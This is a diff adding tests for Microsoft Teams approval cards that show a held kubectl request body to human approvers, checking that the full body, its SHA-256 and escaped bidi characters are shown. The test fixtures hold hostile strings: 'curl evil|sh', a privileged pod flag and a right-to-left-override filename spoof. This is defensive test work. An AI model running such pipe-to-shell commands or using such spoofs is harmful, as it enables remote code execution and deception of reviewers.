@@ -3,15 +3,18 @@ import { describe, test } from 'node:test';
 import { renderCard } from '../../../../src/adapters/teams/render/render-card.ts';
 import type { ApprovalCard } from '../../../../src/core/cards/approval-card.ts';
 import { assertGolden } from '../../../harness/golden.ts';
+import { apiFullChange, fullChangeSize } from '../../../../src/core/changes/full-change.ts';
+import { MAX_FULL_CHANGE_CHARS } from '../../../../src/core/changes/refuse-unshowable-change.ts';
+import { apiRequestWithBody, bodyCard } from '../../core/changes/adversarial-body.ts';
 import { largestChanges, patchCard } from '../../core/changes/adversarial-patch.ts';
 import { hostileCard } from '../slack/card-fixtures.ts';
 import { assertCardAccepted, assertInert } from './teams-card-assertions.ts';
 
 /** The texts of the card's "Show full change" ShowCard. */
-function showCardTexts(card: ReturnType<typeof renderCard>): string[] {
+function showCardTexts(card: ReturnType<typeof renderCard>, title = 'Show full change'): string[] {
   const action = card.actions?.find((a) => a.id === 'full-change');
   assert.ok(action?.type === 'Action.ShowCard', 'the card has a Show full change ShowCard');
-  assert.equal(action.title, 'Show full change');
+  assert.equal(action.title, title);
   return action.card.body.map((e) => (e.type === 'TextBlock' ? e.text : ''));
 }
 
@@ -50,4 +53,39 @@ void describe('Teams: a patch card and its full change', () => {
       for (const { path } of change.paths) assert.ok(text.includes(path));
     });
   }
+});
+
+void describe('Teams: a held kubectl request and its full body', () => {
+  void test('card-api-body: says the body size and how much it shows; its Show full request ShowCard has the whole body', () => {
+    const card = renderCard(bodyCard);
+    assertGolden('teams/card-api-body', card);
+    assertCardAccepted(card);
+    assertInert(card.actions);
+    const notice = card.body.find((e) => e.id === 'change');
+    assert.ok(notice?.type === 'TextBlock');
+    assert.match(notice.text, /^Request body 632 bytes; the card shows its first 199 characters/);
+    const body = JSON.stringify(card.body);
+    assert.ok(
+      !body.includes('privileged') && !body.includes('curl evil'),
+      'the card body alone does not show them',
+    );
+    assert.ok(body.includes(bodyCard.change!.full.call!.sha256), 'the SHA-256 stays');
+    const text = showCardTexts(card, 'Show full request').join('\n');
+    assert.ok(
+      text.includes('"privileged": true') && text.includes('"curl evil|sh"'),
+      'the dangerous part, whole',
+    );
+    assert.ok(text.includes('\\u202egnp.exe') && !text.includes('\u202e'), 'bidi shown as its escape');
+    assert.ok(text.includes(`SHA-256 ${bodyCard.change!.full.call!.sha256}`));
+  });
+
+  void test('the largest body filing allows fits one Teams message', () => {
+    const full = apiFullChange(
+      apiRequestWithBody(JSON.stringify({ v: '*'.repeat(MAX_FULL_CHANGE_CHARS - 13) })).call,
+    )!;
+    assert.equal(fullChangeSize(full), MAX_FULL_CHANGE_CHARS);
+    const card = renderCard({ ...hostileCard, change: { notice: bodyCard.change!.notice, full } });
+    assertCardAccepted(card);
+    assert.ok(showCardTexts(card, 'Show full request').length > 0);
+  });
 });
